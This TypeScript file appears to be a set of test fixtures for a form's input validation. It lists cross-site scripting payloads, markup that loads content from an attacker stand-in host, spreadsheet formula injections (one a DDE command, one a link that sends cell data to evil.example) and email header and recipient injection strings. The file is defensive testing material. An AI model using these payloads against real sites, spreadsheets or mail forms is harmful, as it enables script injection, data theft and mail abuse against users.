/** What somebody types who means harm. Each would be seen: a dialog, a request that the policy stops, a live element. */

/** At most a hundred signs: so short is a name. */
export const scripts = [
  'javascript:alert(15)',
  '<script>alert(1)</script>',
  '"><script>alert(2)</script>',
  `'"></title></textarea></select><script>alert(3)</script>`,
  '<img src=x onerror=alert(4)>',
  '"><img src=x onerror=alert(5)>',
  `' onmouseover='alert(6)`,
  '" autofocus onfocus="alert(7)',
  '<svg onload=alert(8)>',
  '<svg><script>alert(9)</script></svg>',
  '<math><mi xlink:href="javascript:alert(10)">x</mi></math>',
  '<iframe srcdoc="<script>alert(11)</script>"></iframe>',
  '<iframe src="javascript:alert(12)"></iframe>',
  '<a href="javascript:alert(13)">lien</a>',
  '<a href="jAvA&#x09;script:alert(14)">lien</a>',
  'data:text/html,<script>alert(16)</script>',
  '<details open ontoggle=alert(17)>x</details>',
  '<video><source onerror=alert(18)></video>',
  '<body onload=alert(19)>',
  '<form action=https://evil.example><button>Envoyer</button></form>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<object data=https://evil.example/x></object><embed src=https://evil.example/x>',
  '--><script>alert(20)</script><!--',
  '</script><script>alert(21)</script>',
  ']]><script>alert(22)</script>',
  '<scr<script>ipt>alert(23)</scr</script>ipt>',
  '\u00bcscript\u00bealert(24)\u00bc/script\u00be',
  '<ScRiPt/x>alert(25)</ScRiPt>',
  '<noscript><p title="</noscript><img src=x onerror=alert(26)>">',
  '<template><script>alert(27)</script></template><input onfocus=alert(28) autofocus>',
  '{{constructor.constructor("alert(29)")()}}',
  '{{#with "s"}}{{{.}}}{{/with}}<%= 7*7 %>#{alert(30)}',
  '&lt;script&gt;alert(31)&lt;/script&gt;',
  '<mj-raw><script>alert(32)</script></mj-raw>',
  '\u2028<script>alert(33)</script>\u2029',
  '<button formaction=javascript:alert(34)>x</button>',
];

/** Several in one text, as long as a title may be: as many proposals as that takes. */
export const together = scripts.reduce<string[][]>((groups, text) => {
  const last = groups.at(-1);
  if (last && [...last, text].join(' ').length <= 190) last.push(text);
  else groups.push([text]);
  return groups;
}, []);

/** What a spreadsheet would run. */
export const formulas = [
  "=cmd|' /C calc'!A0",
  '+1+cmd()',
  '-2+3',
  '@SUM(1+1)*cmd()',
  ' =1+1',
  '\u00a0=1+1',
  '\uff1d1+1',
  '";=1+1;"',
  '=HYPERLINK("https://evil.example?"&A1;"Cliquez")',
];

/** What would add a header or a recipient. Where a line ends the form refuses it. */
export const headers = [
  'Camille\r\nBcc: evil@evil.example',
  'Camille\nSubject: autre',
  'Camille\r\n\r\nautre corps',
  'Camille\u2028Bcc: evil@evil.example',
  'Camille\u0085Bcc: evil@evil.example',
  'Camille%0d%0aBcc:%20evil@evil.example',
  'Camille" <evil@evil.example>, "',
  'Camille, evil@evil.example',
  'Camille <evil@evil.example>;',
  '=?utf-8?q?Camille=0d=0aBcc:_evil@evil.example?=',
  'Camille\\r\\nBcc: evil@evil.example',
  'é'.repeat(100),
  `${'Camille '.repeat(150)}`,
];

export const addresses = [
  'camille@citoyen.example\r\nBcc: evil@evil.example',
  'camille@citoyen.example,evil@evil.example',
  'camille@citoyen.example evil@evil.example',
  'camille@citoyen.example;evil@evil.example',
  '<evil@evil.example>camille@citoyen.example',
  '"camille@citoyen.example, evil"@evil.example',
  '"a\\"<evil@evil.example>"@citoyen.example',
  'camille%0d%0aBcc:evil@citoyen.example',
  'evil%evil.example@citoyen.example',
  '@evil.example:camille@citoyen.example',
  'camille@[127.0.0.1]',
  'camille@exämple.example',
  'cämille@citoyen.example',
  'camille(evil@evil.example)@citoyen.example',
  `${'c'.repeat(300)}@citoyen.example`,
  'group: evil@evil.example, camille@citoyen.example;',
];
